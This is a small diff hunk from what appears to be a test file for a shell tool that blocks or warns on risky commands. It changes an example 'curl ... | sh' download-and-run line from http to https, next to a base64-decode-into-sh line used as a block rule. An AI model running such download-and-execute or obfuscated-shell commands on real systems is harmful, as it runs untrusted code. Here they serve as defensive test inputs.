@@ -253,7 +253,7 @@ def test_background_job_output_while_idle(shell):
 
 
 BLOCKED = "echo aGVsbG8= | base64 -d | sh"  # decoded text run by a shell: a block rule
-WARNED = "curl -fsS http://example.invalid/i.sh | sh"  # download piped into a shell: warn
+WARNED = "curl -fsS https://example.invalid/i.sh | sh"  # download piped into a shell: warn
 
 
 def test_block_shows_refused_and_runs_nothing(shell):
